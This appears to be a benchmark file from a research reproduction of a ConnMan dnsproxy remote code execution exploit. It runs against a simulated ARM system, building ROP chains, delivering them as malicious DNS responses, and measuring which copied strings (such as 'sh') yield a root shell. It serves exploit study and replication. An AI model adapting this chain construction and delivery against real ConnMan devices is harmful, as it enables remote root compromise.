@@ -1,0 +1,135 @@
+// E4 — the ARM ROP chain (Listings 2 & 5): chain-length sweep showing the
+// 3-call clobber crossover ("/bin/sh" dies after "/bi", "sh" fits), and the
+// narrow-gadget failure.
+// Timing: chain construction + delivery cost by length.
+#include <benchmark/benchmark.h>
+
+#include <cstdio>
+
+#include "src/connman/dnsproxy.hpp"
+#include "src/dns/craft.hpp"
+#include "src/exploit/profile.hpp"
+#include <cstring>
+
+#include "src/exploit/rop_arm.hpp"
+#include "src/gadget/finder.hpp"
+#include "src/isa/varm.hpp"
+#include "src/loader/boot.hpp"
+
+using namespace connlab;
+
+namespace {
+
+exploit::TargetProfile Profile() {
+  static exploit::TargetProfile cached = [] {
+    auto sys =
+        loader::Boot(isa::Arch::kVARM, loader::ProtectionConfig::WxAslr(), 100)
+            .value();
+    connman::DnsProxy proxy(*sys, connman::Version::k134);
+    exploit::ProfileExtractor extractor(*sys, proxy);
+    return extractor.Extract().value();
+  }();
+  return cached;
+}
+
+connman::ProxyOutcome Fire(const dns::PayloadImage& image) {
+  auto sys =
+      loader::Boot(isa::Arch::kVARM, loader::ProtectionConfig::WxAslr(), 4242)
+          .value();
+  connman::DnsProxy proxy(*sys, connman::Version::k134);
+  dns::Message query = dns::Message::Query(0x7E57, "victim.example");
+  (void)proxy.AcceptClientQuery(dns::Encode(query).value());
+  auto labels = dns::CutIntoLabels(image).value();
+  auto evil = dns::MaliciousAResponse(query, labels);
+  return proxy.HandleServerResponse(dns::Encode(evil).value());
+}
+
+void PrintChainLengthTable() {
+  exploit::TargetProfile profile = Profile();
+  std::printf(
+      "== E4: ARM chain-length sweep — the 3-call clobber (paper §III-C2) ==\n");
+  std::printf("%-10s %8s %8s  %s\n", "copy str", "memcpys", "bytes", "outcome");
+  std::printf("%s\n", std::string(58, '-').c_str());
+  const char* strings[] = {"s", "sh", "/bi", "/bin", "/bin/s", "/bin/sh"};
+  for (const char* s : strings) {
+    exploit::ArmRopOptions options;
+    options.copy_str = s;
+    auto image = exploit::BuildArmRopChain(profile, options);
+    if (!image.ok()) {
+      std::printf("%-10s %8zu %8s  build failed: %s\n", s, strlen(s), "-",
+                  image.status().ToString().c_str());
+      continue;
+    }
+    auto outcome = Fire(image.value());
+    std::printf("%-10s %8zu %8zu  %s\n", s, strlen(s), image.value().size(),
+                std::string(connman::OutcomeKindName(outcome.kind)).c_str());
+  }
+  std::printf("\nExpected shape: chains of <= 3 call frames (120 bytes) run to\n"
+              "completion — \"s\" execs /bin/s (not a shell), \"sh\" is the\n"
+              "root shell; anything longer is clobbered in flight and\n"
+              "crashes — exactly why the paper copies only \"sh\" and leans\n"
+              "on execlp's PATH resolution.\n\n");
+
+  // The narrow-gadget ablation.
+  auto sys =
+      loader::Boot(isa::Arch::kVARM, loader::ProtectionConfig::WxAslr(), 100)
+          .value();
+  gadget::Finder finder(*sys);
+  auto narrow = finder.FindPopRegsPc(isa::varm::Mask({isa::kR0}));
+  if (narrow.ok()) {
+    exploit::ArmRopOptions options;
+    options.override_gadget = narrow.value().addr;
+    options.override_mask = narrow.value().instrs.front().reg_mask;
+    auto image = exploit::BuildArmRopChain(profile, options);
+    if (image.ok()) {
+      auto outcome = Fire(image.value());
+      std::printf("narrow gadget (%s): %s\n",
+                  narrow.value().ToString(isa::Arch::kVARM).c_str(),
+                  outcome.ToString().c_str());
+      std::printf("Expected: SIGSEGV in parse_rr — \"utilizing a gadget with\n"
+                  "fewer registers results in a SIGSEV\" (§III-B2).\n\n");
+    }
+  }
+}
+
+void BM_BuildArmChain(benchmark::State& state) {
+  exploit::TargetProfile profile = Profile();
+  exploit::ArmRopOptions options;
+  options.copy_str = std::string(static_cast<std::size_t>(state.range(0)), 's');
+  for (auto _ : state) {
+    auto image = exploit::BuildArmRopChain(profile, options);
+    benchmark::DoNotOptimize(image);
+  }
+  state.SetItemsProcessed(state.iterations());
+}
+BENCHMARK(BM_BuildArmChain)->Arg(1)->Arg(2)->Arg(7);
+
+void BM_DeliverArmChain(benchmark::State& state) {
+  exploit::TargetProfile profile = Profile();
+  auto image = exploit::BuildArmRopChain(profile, {}).value();
+  auto labels = dns::CutIntoLabels(image).value();
+  auto sys =
+      loader::Boot(isa::Arch::kVARM, loader::ProtectionConfig::WxAslr(), 4242)
+          .value();
+  connman::DnsProxy proxy(*sys, connman::Version::k134);
+  std::uint16_t id = 1;
+  for (auto _ : state) {
+    dns::Message query = dns::Message::Query(id++, "victim.example");
+    (void)proxy.AcceptClientQuery(dns::Encode(query).value());
+    auto evil = dns::MaliciousAResponse(query, labels);
+    auto outcome = proxy.HandleServerResponse(dns::Encode(evil).value());
+    benchmark::DoNotOptimize(outcome);
+  }
+  state.SetItemsProcessed(state.iterations());
+}
+BENCHMARK(BM_DeliverArmChain);
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  PrintChainLengthTable();
+  benchmark::Initialize(&argc, argv);
+  benchmark::RunSpecifiedBenchmarks();
+  benchmark::Shutdown();
+  return 0;
+}
